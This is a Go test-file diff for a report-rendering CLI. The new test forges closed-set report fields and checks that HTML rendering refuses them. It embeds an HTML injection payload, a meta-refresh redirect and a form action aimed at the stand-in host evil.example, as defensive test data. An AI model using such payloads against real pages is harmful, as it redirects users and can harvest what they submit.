@@ -282,3 +282,50 @@ func TestRenderHTMLLink(t *testing.T) {
 		t.Errorf("a javascript: link: exit %d, %q", code, errOut)
 	}
 }
+
+// TestRenderRefusesForgedReportFields (issue 29, item 9): a saved report
+// whose closed-set fields hold anything else — a fact kind that carries
+// markup (it became the HTML report's "On the timeline" link), a fact index
+// past the run's facts, a run kind, a rule's selected kind — is refused
+// before anything is rendered: exit 2, one line naming the finding or run.
+// The HTML never holds the injected markup.
+func TestRenderRefusesForgedReportFields(t *testing.T) {
+	data, err := os.ReadFile("../../golden/report/mixed.json.golden")
+	if err != nil {
+		t.Fatal(err)
+	}
+	inject := `x"><meta http-equiv=refresh content="0;url=https://evil.example"><form action=https://evil.example>`
+	for _, c := range []struct {
+		name, wants string
+		edit        func(d map[string]any)
+	}{
+		{"fact kind", "fact kind", func(d map[string]any) { finding(d, 0)["fact"].(map[string]any)["kind"] = "subagent" + inject }},
+		{"fact index", "no subagent fact 7", func(d map[string]any) { finding(d, 0)["fact"].(map[string]any)["index"] = 7 }},
+		{"negative fact index", "fact index -1", func(d map[string]any) { finding(d, 1)["fact"].(map[string]any)["index"] = -1 }},
+		{"run kind of a finding", "run_kind", func(d map[string]any) { finding(d, 0)["run_kind"] = "session" + inject }},
+		{"run kind", "kind", func(d map[string]any) { d["runs"].([]any)[0].(map[string]any)["kind"] = inject }},
+		{"rule select", "selects", func(d map[string]any) {
+			d["rules"].([]any)[0].(map[string]any)["select"] = []any{"subagent", inject}
+		}},
+	} {
+		var d map[string]any
+		if err := json.Unmarshal(data, &d); err != nil {
+			t.Fatal(err)
+		}
+		c.edit(d)
+		forged, _ := json.Marshal(d)
+		name := filepath.Join(t.TempDir(), "forged.json")
+		if err := os.WriteFile(name, forged, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		code, out, errOut := runCLI("render", "--format", "html", name)
+		if code != ExitUsage || !strings.Contains(errOut, c.wants) || strings.Count(errOut, "\n") != 1 {
+			t.Errorf("%s: exit %d, stderr %q; want exit 2 and one line containing %q", c.name, code, errOut, c.wants)
+		}
+		if strings.Contains(out, "<meta http-equiv=refresh") || strings.Contains(out, "<form") {
+			t.Errorf("%s: the HTML holds the injected markup", c.name)
+		}
+	}
+}
+
+func finding(d map[string]any, i int) map[string]any { return d["findings"].([]any)[i].(map[string]any) }
